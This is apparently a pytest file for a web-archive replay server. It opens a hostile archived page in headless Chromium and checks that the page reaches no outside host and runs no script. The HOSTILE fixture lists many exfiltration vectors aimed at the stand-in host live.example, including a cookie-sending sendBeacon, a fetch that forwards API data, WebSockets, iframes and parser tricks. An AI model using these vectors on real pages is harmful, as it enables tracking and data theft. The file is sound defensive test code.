"""A hostile page in a real browser: nothing leaves, nothing runs, the room stays closed.

Every name but loopback leads to a trap that stands for the live web and counts connections. The
same page, served by the trap's own kind without our guards, does reach it: so the trap works.
"""

from __future__ import annotations

import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from archive.collection import Collection
from tests.archive.web.conftest import serving
from tests.archive.web.shelf import SITE, Shelf

_BROWSER = shutil.which("chromium") or shutil.which("chromium-browser")

pytestmark = pytest.mark.skipif(
    _BROWSER is None, reason="no chromium on this machine: apt-get install chromium"
)

HOSTILE = """<!DOCTYPE html><html><head><title>Quay</title>
<link rel="preconnect" href="http://live.example"><link rel="dns-prefetch" href="//live.example">
<link rel="stylesheet" href="http://live.example/a.css"><link rel="icon" href="//live.example/i">
<meta http-equiv="refresh" content="0; url=http://live.example/refreshed">
<style>@import "http://live.example/b.css"; body { background: url(http://live.example/b.png) }
@font-face { font-family: f; src: url(http://live.example/f.woff) } p { font-family: f }</style>
<script src="http://live.example/s.js"></script>
<script>
document.title = "ran";
new Image().src = "http://live.example/beacon";
fetch("ROOM/api/").then(r => r.text()).then(t => fetch("http://live.example/" + t.length));
navigator.sendBeacon("http://live.example/beacon2", document.cookie);
new WebSocket("ws://live.example/");
top.location = "http://live.example/top";
</script></head>
<body onload="new Image().src='http://live.example/onload'">
<h1>The quay is closed</h1><p>text</p>
<img src="http://live.example/i.png" srcset="//live.example/j.png 2x"
 onerror="location='//live.example/'">
<img src="\thttp://live.example/tab.png"><input type=image src=//live.example/in>
<iframe src="http://live.example/frame"></iframe>
<iframe srcdoc="<script>new Image().src='http://live.example/srcdoc'</script>
<link rel=preconnect href=//live.example><img src=//live.example/k>"></iframe>
<iframe src="data:text/html,<script>new Image().src='http://live.example/data'</script>"></iframe>
<object data="http://live.example/o"></object><embed src="http://live.example/e">
<video src="http://live.example/v" poster="//live.example/p" autoplay></video>
<svg><image href="http://live.example/svg"/><use xlink:href="http://live.example/u#a"/></svg>
<template shadowrootmode="open"><img src="http://live.example/shadow"></template>
<div><template shadowrootmode="open"><img src="http://live.example/shadow2"></template></div>
<svg><style><p><link rel="preconnect" href="http://live.example"></p></style></svg>
<svg><title><link rel="preconnect" href="http://live.example"></title></svg>
<table background="http://live.example/t"><tr><td>x</table>
<p style="background: url(&quot;http://live.example/st&quot;)">styled</p>
</body></html>"""


class _Trap(ThreadingHTTPServer):
    """The live web: counts who comes."""

    daemon_threads = True

    def __init__(self, page: bytes = b"") -> None:
        super().__init__(("127.0.0.1", 0), _Answer)
        self.page = page
        self.seen: list[str] = []

    def get_request(self) -> tuple[socket.socket, tuple[str, int]]:
        self.seen.append("a connection")
        return super().get_request()


class _Answer(BaseHTTPRequestHandler):
    server: _Trap

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        if self.path == "/hostile":
            self.wfile.write(self.server.page)

    def log_message(self, format: str, *args: object) -> None:
        self.server.seen.append(self.path)


@contextmanager
def _trap(page: bytes = b"") -> Iterator[_Trap]:
    with _Trap(page) as trap:
        thread = threading.Thread(target=trap.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        try:
            yield trap
        finally:
            trap.shutdown()
            thread.join(10)


def _opened(url: str, trap: _Trap, profile: Path, wait: float = 60) -> str:
    """The document after its scripts had two seconds, as the browser has it."""
    assert _BROWSER is not None
    command = [
        _BROWSER,
        "--headless",
        "--no-sandbox",  # the tests may run as root; what is tested is the page's sandbox
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--no-first-run",
        f"--user-data-dir={profile}",
        # the browser's own errands (updates) find no host and are not counted
        f"--host-resolver-rules=MAP live.example 127.0.0.1:{trap.server_port}, "
        "MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
        "--virtual-time-budget=2000",
        "--dump-dom",
        url,
    ]
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=wait, check=False)
    except subprocess.TimeoutExpired:  # without window it never ends a download
        return ""
    return done.stdout


@pytest.fixture(scope="module")
def hostile_room(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    """The URLs of a room whose only page is hostile."""
    path = tmp_path_factory.mktemp("hostile") / "collection"
    with serving(path) as room:
        with Collection.create_or_open(path) as collection, collection.writer() as writer:
            # it names the room that it attacks, so the room is there first
            page = HOSTILE.replace("ROOM", room.urls[0]).encode()
            Shelf(writer).put(f"{SITE}/hostile", page)
        yield room.urls


def test_without_our_guards_the_page_reaches_the_live_web(tmp_path: Path) -> None:
    page = HOSTILE.replace("top.location =", "//").replace("http-equiv", "name")
    with _trap(page.encode()) as trap:
        _opened(f"http://127.0.0.1:{trap.server_port}/hostile", trap, tmp_path)
    assert {"/a.css", "/b.png"} <= set(trap.seen)
    # the page runs and leaves at once, which may cut off some of what it began
    assert {"/beacon", "/beacon2", "/top", "/s.js", "/shadow2"} & set(trap.seen)


def test_an_archived_page_reaches_nothing_and_runs_nothing(
    hostile_room: tuple[str, str], tmp_path: Path
) -> None:
    with _trap() as trap:
        url = f"{hostile_room[1]}/replay/20260301090000/{SITE}/hostile"
        document = _opened(url, trap, tmp_path)
    assert [] == trap.seen
    assert "<title>Quay</title>" in document
    assert "The quay is closed" in document


def test_the_archived_bytes_of_a_page_are_not_opened(
    hostile_room: tuple[str, str], tmp_path: Path
) -> None:
    with _trap() as trap:
        url = f"{hostile_room[1]}/replay/20260301090000id_/{SITE}/hostile"
        document = _opened(url, trap, tmp_path, wait=4)
    assert [] == trap.seen
    assert "The quay is closed" not in document


def test_a_framed_page_reaches_nothing_and_leaves_the_room_in_place(
    hostile_room: tuple[str, str], tmp_path: Path
) -> None:
    with _trap() as trap:
        url = f"{hostile_room[0]}/view/20260301090000/{SITE}/hostile"
        document = _opened(url, trap, tmp_path)
    assert [] == trap.seen
    assert "capture 1 of 1" in document
